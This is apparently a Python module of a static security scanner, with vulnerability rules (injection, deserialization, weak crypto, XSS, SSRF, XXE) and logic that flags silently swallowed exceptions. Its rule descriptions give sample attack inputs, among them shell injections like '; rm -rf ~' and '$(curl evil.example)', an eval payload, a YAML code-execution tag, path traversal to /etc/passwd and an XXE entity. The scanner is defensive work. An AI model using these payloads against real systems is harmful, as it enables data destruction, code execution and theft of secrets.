"""Flaws of Python that syntax alone shows; `flow.py` decides the rest."""

import re
from collections.abc import Iterator
from itertools import takewhile

from tree_sitter import Node

from moot.scan.calls import modules
from moot.scan.rule import CallRule, Rule, RuleMatch, on
from moot.scan.rules.handlers import goes_on_failed, is_logger
from moot.scan.rules.when import is_reason
from moot.scan.syntax import Source, nth, words

SQL = Rule(
    "python-sql-string", "injection", "critical", 89,
    "SQL injection: query built by string formatting",
    "A value of \"' OR '1'='1\" changes what the statement selects; '; DROP TABLE …' may run a second one.",
    "Pass the values as parameters of execute(), outside the SQL text.", 0.85,
)  # fmt: skip
SHELL = Rule(
    "python-shell", "injection", "critical", 78,
    "Command injection: command line built from variables is run by a shell",
    "A value of '; rm -rf ~' or '$(curl evil.example)' runs as a command of its own.",
    "Give the program and its arguments as a list, without a shell.", 0.85,
)  # fmt: skip
OS_SYSTEM = Rule(
    "python-os-system", "injection", "critical", 78,
    "Command injection: os.system or a similar call runs a command line built from variables in a shell",
    "A value of '; rm -rf ~' runs as a command of its own.",
    "Use subprocess.run with a list of arguments.", 0.85,
)  # fmt: skip
EVAL = Rule(
    "python-eval", "injection", "critical", 95,
    "Code injection: variable text is evaluated as Python code",
    "A value of \"__import__('os').system('id')\" runs any command.",
    "Use ast.literal_eval for literals, json for data, or a table of the allowed operations.", 0.8,
)  # fmt: skip
YAML = Rule(
    "python-yaml-load", "injection", "high", 502,
    "Unsafe deserialization: yaml.load without a safe loader builds any Python object",
    "A document of '!!python/object/apply:os.system [id]' runs a command.",
    "Use yaml.safe_load.", 0.9,
)  # fmt: skip
PICKLE = Rule(
    "python-pickle", "injection", "high", 502,
    "Unsafe deserialization: unpickling runs code that the bytes name",
    "Bytes whose __reduce__ names os.system run a command when they are loaded.",
    "Use json or another format that holds only data, or check a signature first.", 0.6,
)  # fmt: skip
PASSWORD_HASH = Rule(
    "python-password-hash", "auth", "high", 916,
    "Weak password hash: MD5, SHA-1 or one round of SHA-2, which allow billions of guesses a second",
    "A leaked table of hashes is reversed with a word list in minutes.",
    "Use a slow, salted function: hashlib.scrypt, bcrypt or argon2, with a random salt kept beside each hash.", 0.85,
)  # fmt: skip
HASH = Rule(
    "python-weak-hash", "auth", "low", 327,
    "Weak hash: MD5 and SHA-1 are not collision resistant",
    "Where the hash stands for the content, a second content with the same hash takes its place.",
    "Use hashlib.sha256, or say usedforsecurity=False where it is no matter of security.", 0.6,
)  # fmt: skip
CIPHER = Rule(
    "python-weak-cipher", "auth", "high", 327,
    "Weak cipher: DES, RC4, Blowfish or ECB mode",
    "Equal blocks stay equal under ECB; DES keys are tried out in hours.",
    "Use AES-GCM or ChaCha20-Poly1305.", 0.8,
)  # fmt: skip
MKTEMP = Rule(
    "python-mktemp", "race_condition", "medium", 377,
    "Insecure temporary file: another process can create the name that tempfile.mktemp returns",
    "A link put there in between makes the program write to a file of the attacker's choice.",
    "Use tempfile.mkstemp, NamedTemporaryFile or a private mkdtemp.", 0.9,
)  # fmt: skip
TLS = Rule(
    "python-tls-verify", "auth", "high", 295,
    "TLS verification disabled: the server certificate is not checked",
    "Anyone on the way reads and changes the traffic with a certificate of their own.",
    "Leave certificate checks on; trust a private authority by verify='ca.pem'.", 0.9,
)  # fmt: skip
DEBUG = Rule(
    "python-debug", "other", "high", 489,
    "Debug mode: the web framework's debugger lets users run code",
    "An error page offers an interactive console.",
    "Turn debug off; read it from the environment where it is needed.", 0.8,
)  # fmt: skip
RANDOM = Rule(
    "python-weak-random", "auth", "high", 330,
    "Insecure randomness: a secret is generated with the random module, which is predictable",
    "After a few hundred observed values the next tokens are known.",
    "Use the secrets module.", 0.7,
)  # fmt: skip
TEMPLATE = Rule(
    "python-template-string", "injection", "critical", 1336,
    "Template injection: template source built from variables",
    "A value of '{{ config }}' prints secrets; longer ones run commands.",
    "Keep the template constant and pass values as its variables.", 0.8,
)  # fmt: skip
MARKUP = Rule(
    "python-markup", "xss", "high", 79,
    "XSS: variable text is marked as safe HTML",
    "A value of '<script>…</script>' runs in the visitor's browser.",
    "Escape the value (markupsafe.escape, format_html) before it is marked safe.", 0.7,
)  # fmt: skip
AUTOESCAPE = Rule(
    "python-autoescape", "xss", "high", 79,
    "XSS: autoescaping of the template engine is off",
    "A value of '<script>…</script>' runs in the visitor's browser.",
    "Set autoescape=True or select_autoescape().", 0.8,
)  # fmt: skip
RESPONSE = Rule(
    "python-response-xss", "xss", "high", 79,
    "XSS: user input is written into an HTML response unescaped",
    "A link with '<script>…</script>' in it runs script in the visitor's browser.",
    "Escape the value (markupsafe.escape) or render a template.", 0.7,
)  # fmt: skip
PATH = Rule(
    "python-path", "injection", "high", 22,
    "Path traversal: user input controls the file path",
    "A name of '../../etc/passwd' leaves the intended folder.",
    "Take os.path.basename or secure_filename of the name, or check the resolved path against the folder.", 0.7,
)  # fmt: skip
SSRF = Rule(
    "python-ssrf", "injection", "high", 918,
    "SSRF: user input controls the request URL",
    "A URL of 'http://169.254.169.254/' fetches what only the server may see.",
    "Check the host against a list of allowed ones.", 0.6,
)  # fmt: skip
REDIRECT = Rule(
    "python-open-redirect", "injection", "medium", 601,
    "Open redirect: user input controls the redirect target",
    "A value of 'https://evil.example/' turns a link to this site into one to the attacker's page.",
    "Redirect to paths of your own only.", 0.6,
)  # fmt: skip
CTYPES = Rule(
    "python-raw-memory", "overflow", "medium", 119,
    "Memory safety: ctypes accesses raw memory without bounds checks",
    "A length or address from outside reads or overwrites other memory.",
    "Use bytes, bytearray or memoryview, or check the length against the buffer first.", 0.7,
)  # fmt: skip
SWALLOWED = Rule(
    "python-swallowed-error", "logic_error", "low", 390,
    "Swallowed error: every exception is caught and ignored",
    "A failed check or write goes on as if it had worked.",
    "Catch the one error that is expected, and log or raise the rest.", 0.7,
)  # fmt: skip
XML = Rule(
    "python-xxe", "injection", "high", 611,
    "XXE: the XML parser resolves entities or loads from the network",
    "A document with <!ENTITY x SYSTEM 'file:///etc/passwd'> reads the file.",
    "Use resolve_entities=False and no_network=True, or defusedxml.", 0.8,
)  # fmt: skip


CALL_RULES: tuple[CallRule, ...] = (
    on(
        CTYPES,
        "ctypes.memmove ctypes.memset ctypes.string_at ctypes.wstring_at .from_address",
        lambda source, call: "ctypes" in modules(source),
    ),
)


LEAVES = words("return_statement break_statement continue_statement")
BEST_EFFORT = re.compile(r"(?i)\bbest[- ]effort\b|\b(?:never|does not|doesn't|must not) raise")
CLEARS = re.compile(
    r"(?:await )?[\w.]+\.(?:(?:\w+_)?close"
    r"(?:_(?:all|now|db|(?:conn|expired|file|handle|idle|pool|session|socket|stream|transport|writer)\w*))?|shutdown|disconnect|release|terminate)"
    r"\((?:[\w.=]+(?:, [\w.=]+)*)?\)"
)


def find_swallowed(source: Source) -> Iterator[RuleMatch]:
    for clause in source.nodes("except_clause"):
        caught = clause.child_by_field_name("value")
        if caught is not None and caught.type == "as_pattern":
            caught = nth(caught, 0)
        broad = caught is None or source.text(caught) in ("Exception", "BaseException")
        body = next((child for child in clause.named_children if child.type == "block"), None)
        if broad and body is not None and _does_nothing(body) and not _is_meant(source, clause):
            yield RuleMatch(SWALLOWED, clause)


def _is_meant(source: Source, clause: Node) -> bool:
    """A comment gives the reason; or nothing goes on as if it had worked: what follows only runs after a failure, the
    object is cleared away, or its resources are, or it goes on to report an earlier error."""
    attempt = clause.parent
    if any(is_reason(source.text(node)) for node in _list_comments(clause)) or _is_announced(source, attempt):
        return True
    body = attempt.child_by_field_name("body") if attempt is not None else None
    if attempt is None or body is None:
        return False
    steps = [step for step in body.named_children if step.type != "comment"]
    leaves = bool(steps) and steps[-1].type in LEAVES
    apart = any(child.type == "else_clause" for child in attempt.named_children)
    closes = all(CLEARS.fullmatch(source.text(step)) for step in steps)
    scope = source.scope(clause)
    left = scope.name == "__del__" or goes_on_failed(source, attempt) or is_logger(source, attempt)
    return leaves or apart or closes or left or BEST_EFFORT.search(_read_docstring(source, scope.node)) is not None


LONGEST_DOCSTRING = 4000


def _read_docstring(source: Source, function: Node) -> str:
    body = function.child_by_field_name("body")
    first = nth(body, 0) if body is not None else None
    text = nth(first, 0) if first is not None and first.type == "expression_statement" else None
    if text is None or text.type != "string":
        return ""
    return source.slice(text.start_byte, min(text.end_byte, text.start_byte + LONGEST_DOCSTRING))


MEANT = re.compile(r"(?i)best[- ]effort|\bnever raise")
DROPS = re.compile(r"(?i)(?<!not )(?<!never )\b(?:ignor|swallow)\w*")
FAILURES = re.compile(r"(?i)\b(?:errors?|exceptions?|fail\w*|rais(?:es?|ed|ing))\b")


def _is_announced(source: Source, attempt: Node | None) -> bool:
    """A comment above the `try`, or above the step before it, says that errors are ignored."""
    start = attempt.start_byte if attempt is not None else 0
    lines = [line.strip() for line in source.slice(max(0, start - 1000), start).split("\n")[:-1]]
    if lines and lines[-1] and not lines[-1].startswith("#"):
        lines.pop()
    comment = list(takewhile(lambda line: line.startswith("#"), reversed(lines)))
    text = " ".join(reversed(comment))
    return bool(MEANT.search(text) or (DROPS.search(text) and FAILURES.search(text)))


def _list_comments(clause: Node) -> Iterator[Node]:
    """Comments of a handler; that of an only statement stands behind the handler in the tree."""
    row = clause.end_point[0]
    for node in (clause, *(child for child in clause.named_children if child.type == "block")):
        yield from (child for child in node.children if child.type == "comment")
    after = clause.next_sibling
    while after is not None and after.type == "comment" and after.start_point[0] - row <= 1:
        yield after
        after = after.next_sibling


def _does_nothing(block: Node) -> bool:
    kinds = []
    for statement in block.named_children:
        inner = nth(statement, 0) if statement.type == "expression_statement" else statement
        kinds.append(inner.type if inner is not None else "")
    return all(kind in ("pass_statement", "ellipsis", "comment", "continue_statement") for kind in kinds)
